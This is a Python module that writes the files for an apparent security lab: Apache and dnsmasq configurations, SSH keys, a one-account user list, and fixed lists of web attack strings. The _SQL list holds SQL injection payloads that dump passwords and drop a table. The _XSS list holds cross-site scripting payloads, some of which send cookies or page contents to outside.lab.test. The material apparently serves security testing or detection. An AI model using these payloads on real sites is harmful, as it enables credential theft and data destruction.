"""Write the lab's files: the servers' configuration, keys, users and documents, and the strings of the web attacks.

All of them are in one temporary directory.
"""

from __future__ import annotations

import os
import secrets
import subprocess
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import numpy as np

USER = "alice"
APP_PORT = 8001

_APACHE = """\
ServerRoot {dir}
ServerName {address}
DefaultRuntimeDir {dir}/{name}
PidFile {dir}/{name}/apache.pid
Mutex file:{dir}/{name} default
ErrorLog {dir}/{name}/web.err
LoadModule mpm_event_module /usr/lib/apache2/modules/mod_mpm_event.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule proxy_module /usr/lib/apache2/modules/mod_proxy.so
LoadModule proxy_http_module /usr/lib/apache2/modules/mod_proxy_http.so
ProxyPass /app http://127.0.0.1:{app_port}/app retry=0
Listen {address}:80
Listen {address}:8080
User www-data
Group www-data
DocumentRoot {dir}/www
Timeout 20
KeepAlive On
KeepAliveTimeout 3
StartServers 2
ThreadsPerChild 32
MaxRequestWorkers 128
"""

_DNSMASQ = """\
no-hosts
no-resolv
no-poll
user=root
pid-file
bind-interfaces
listen-address={address}
log-facility=-
local=/lab.test/
local=/invalid/
mx-host=lab.test,mail.lab.test,10
txt-record=lab.test,"v=spf1 -all","{long_text}"
srv-host=_http._tcp.lab.test,web.lab.test,80
ptr-record={reverse}.in-addr.arpa,web.lab.test
{hosts}
"""

_SSH_CONFIG = """\
Host *
  IdentityFile {dir}/id
  IdentitiesOnly yes
  UserKnownHostsFile /dev/null
  GlobalKnownHostsFile /dev/null
  StrictHostKeyChecking no
  LogLevel ERROR
"""

_SQL = """\
' or '1'='1
' or 1=1 --
admin' --
' union select name, password from users --
%' union select sql, name from sqlite_master --
' and 1=2 union select group_concat(name), group_concat(password) from users --
'; drop table goods --
' or exists (select 1 from users where name like 'a%') --
' or length(password) > 8 --
' or substr(password, 1, 1) = 'a' --
' or (select count(*) from goods) > 100 --
x' and randomblob(100000) is null or 'a' like 'a
' union select hex(randomblob(500)), 1 --
" or ""="
') or ('a' = 'a
' order by 7 --
' union select null, null, null --
1' and (select case when (1=1) then 1 else 1/0 end) = 1 --
"""
_XSS = """\
<script>alert(1)</script>
<script>document.location='http://outside.lab.test/?c='+document.cookie</script>
<img src=x onerror=alert(document.domain)>
<svg onload=alert(1)>
"><script>alert(String.fromCharCode(88,83,83))</script>
<body onload=alert('lab')>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(document.cookie)" style="position:absolute;width:100%;height:100%">here</a>
<input autofocus onfocus=alert(1)>
<script>new Image().src='http://outside.lab.test/collect?k='+encodeURIComponent(document.body.innerHTML)</script>
<details open ontoggle=alert(1)>
<div style="background:url(javascript:alert(1))">
<scr<script>ipt>alert(1)</scr</script>ipt>
<marquee onstart=alert(1)>
<script>fetch('/app/guests',{method:'POST',body:'name=x&text=%3Cscript%3Ealert(1)%3C/script%3E'})</script>
<b onmouseover=alert(1)>over</b>
<object data="data:text/html,<script>alert(1)</script>"></object>
<video><source onerror=alert(1)></video>
"""


@dataclass(frozen=True)
class Login:
    """The one account of the lab's servers.

    Parameters
    ----------
    user : str
        Name of the account.
    password : str
        Its password; each recording has a new random one.
    """

    user: str
    password: str


def _output(*argv: str | Path, **kwargs) -> str:
    """Return what a program prints."""
    return subprocess.run(list(map(str, argv)), check=True, capture_output=True, text=True, **kwargs).stdout.strip()


def write_files(directory: Path, addresses: Mapping[str, str], seed: int) -> Login:
    """Write all files of the lab.

    Parameters
    ----------
    directory : pathlib.Path
        An empty directory that every user of the machine may enter.
    addresses : mapping of str to str
        Host name to address.
    seed : int
        Seed of the documents' contents.

    Returns
    -------
    Login
        The account of the servers.
    """
    rng = np.random.default_rng(seed)
    home, www = directory / "home", directory / "www"
    (home / ".ssh").mkdir(parents=True)
    www.mkdir()
    for prefix, ending, sizes in (
        ("page", "html", np.geomspace(300, 9_000, 40)),
        ("part", "css", np.geomspace(200, 4_000, 8)),
        ("file", "bin", np.geomspace(3_000, 40_000, 6)),
    ):
        for number, size in enumerate(sizes, 1):
            (www / f"{prefix}{number}.{ending}").write_bytes(rng.bytes(int(size)))
    (directory / "sql.txt").write_text(_SQL)
    (directory / "xss.txt").write_text(_XSS)
    text = rng.bytes(100).hex()
    for name, address in addresses.items():
        (directory / name).mkdir()
        _write_configuration(directory, name, address, text)
    (directory / "ssh_config").write_text(_SSH_CONFIG.format(dir=directory))
    _output("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "lab", "-f", directory / "id")
    _output("dropbearkey", "-t", "ed25519", "-f", directory / "host_key")
    (home / ".ssh" / "authorized_keys").write_text((directory / "id.pub").read_text())
    return _write_users(directory, home)


def _write_configuration(directory: Path, name: str, address: str, text: str) -> None:
    """Write the configuration of one host's Apache and dnsmasq; ``text`` goes into a DNS record."""
    apache = _APACHE.format(dir=directory, name=name, address=address, app_port=APP_PORT)
    (directory / name / "apache.conf").write_text(apache)
    hosts = [f"host-record=host{n}.lab.test,10.9.{n // 250}.{n % 250 + 1}" for n in range(1, 301)]
    hosts += [f"host-record=cdn{n}.lab.test,10.9.9.{n},fd00::{n}" for n in range(1, 21)]
    reverse = ".".join(reversed(address.split(".")))
    names = _DNSMASQ.format(address=address, reverse=reverse, long_text=text, hosts="\n".join(hosts))
    (directory / name / "dnsmasq.conf").write_text(names)


def _write_users(directory: Path, home: Path) -> Login:
    """Write a user list with one account for the servers. The account owns its home, because Dropbear demands that."""
    login = Login(USER, secrets.token_hex(6))
    uid = 64999
    hashed = _output("openssl", "passwd", "-6", "-stdin", input=login.password)
    (directory / "passwd").write_text(
        "root:x:0:0::/root:/bin/sh\n"
        + "".join(line + "\n" for line in Path("/etc/passwd").read_text().splitlines() if line.startswith("www-data:"))
        + f"{login.user}:x:{uid}:{uid}::{home}:/bin/sh\n"
    )
    (directory / "shadow").write_text(f"root:*:::::::\n{login.user}:{hashed}:::::::\n")
    (directory / "shadow").chmod(0o600)
    for path in (home, home / ".ssh", home / ".ssh" / "authorized_keys"):
        os.chown(path, uid, uid)
    return login
